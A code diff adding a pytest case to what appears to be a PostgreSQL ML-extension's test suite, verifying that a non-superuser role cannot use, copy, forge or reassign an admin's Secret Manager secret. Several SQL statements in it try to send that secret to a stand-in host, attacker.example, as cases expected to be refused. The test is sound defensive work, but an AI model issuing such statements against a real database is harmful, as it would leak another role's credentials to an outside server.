@@ -1017,6 +1017,62 @@ def test_non_superuser_with_grant_manages_models(
         assert user.execute("SELECT count(*) FROM google_ml._engine_endpoint").fetchone() == (0,)
 
 
+def test_non_superuser_may_not_use_a_secret_of_another_role(
+        conn: psycopg.Connection[Any], user_dsn: str) -> None:
+    # The documented grant lets a role register models; it must not let that role send the
+    # admin's secret to a URL of its own.
+    conn.execute("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA google_ml "
+                 "TO ext_test_user")
+    conn.execute("CALL google_ml.create_sm_secret('admin_key', 'projects/p/secrets/admin/versions/1')")
+    conn.execute("CALL google_ml.create_model(model_id => 'admin_model', model_provider => "
+                 "'open_ai', model_type => 'text_embedding', model_qualified_name => "
+                 "'text-embedding-3-small', model_auth_id => 'admin_key')")
+    with psycopg.connect(user_dsn, autocommit=True) as user:
+        with pytest.raises(psycopg.errors.InsufficientPrivilege) as caught:
+            user.execute("CALL google_ml.create_model(model_id => 'mine', model_request_url => "
+                         "'https://attacker.example/collect', model_auth_id => 'admin_key')")
+        assert 'permission denied to use secret "admin_key" in model "mine"' in str(caught.value)
+        owner = conn.execute("SELECT current_user").fetchone()[0]
+        assert caught.value.diag.message_detail == (
+            f'Secret "admin_key" belongs to role "{owner}"; role "ext_test_user" may not use it.')
+        assert "GRANT GROUP_ROLE TO ext_test_user" in str(caught.value.diag.message_hint)
+        user.execute("CALL google_ml.create_sm_secret('own', 'projects/p/secrets/own/versions/1')")
+        user.execute("CALL google_ml.create_model(model_id => 'mine', model_request_url => "
+                     "'https://attacker.example/collect', model_auth_id => 'own')")
+        refused = [
+            "CALL google_ml.alter_model(model_id => 'mine', model_auth_id => 'admin_key')",
+            ("INSERT INTO google_ml.models (id, request_url, auth_type, auth_id) VALUES "
+            "('direct', 'https://attacker.example', 'secret_manager', 'admin_key')"),
+            ("UPDATE google_ml.models SET request_url = 'https://attacker.example' "
+            "WHERE id = 'admin_model'"),
+            # the same Secret Manager secret under a name of one's own, in any version
+            "CALL google_ml.create_sm_secret('copy', 'projects/p/secrets/admin/versions/latest')",
+            "CALL google_ml.alter_sm_secret('own', 'projects/p/secrets/admin/versions/2')",
+            "UPDATE google_ml.secrets SET owner = 'ext_test_user' WHERE secret_id = 'admin_key'",
+            f"UPDATE google_ml.secrets SET owner = '{owner}' WHERE secret_id = 'own'",
+            "CALL google_ml.drop_sm_secret('admin_key')",
+        ]
+        for statement in refused:
+            assert sqlstate_of(user, statement) == "42501", statement
+        # a secret inserted directly belongs to the role that inserts it, whatever it says
+        user.execute("INSERT INTO google_ml.secrets (secret_id, secret_path, owner) VALUES "
+                     "('forged', 'projects/p/secrets/forged/versions/1', %s)", (owner,))
+        assert user.execute("SELECT owner FROM google_ml.secrets WHERE secret_id = 'forged'"
+                            ).fetchone() == ("ext_test_user",)
+    assert conn.execute("SELECT request_url, auth_id FROM google_ml.models WHERE id = 'admin_model'"
+                        ).fetchone()[1] == "admin_key"
+    # Shared through a group role, the secret is usable.
+    conn.execute("DROP ROLE IF EXISTS ext_test_secrets")
+    conn.execute("CREATE ROLE ext_test_secrets")
+    conn.execute("UPDATE google_ml.secrets SET owner = 'ext_test_secrets' WHERE secret_id = 'admin_key'")
+    conn.execute("GRANT ext_test_secrets TO ext_test_user")
+    with psycopg.connect(user_dsn, autocommit=True) as user:
+        user.execute("CALL google_ml.alter_model(model_id => 'mine', model_auth_id => 'admin_key')")
+    conn.execute("DELETE FROM google_ml.models WHERE auth_id = 'admin_key'")
+    conn.execute("CALL google_ml.drop_sm_secret('admin_key')")
+    conn.execute("DROP ROLE ext_test_secrets")
+
+
 def test_non_superuser_calls_models_without_table_grants(
         conn: psycopg.Connection[Any], calls: FakeEngine, user_dsn: str) -> None:
     with psycopg.connect(user_dsn, autocommit=True) as user:
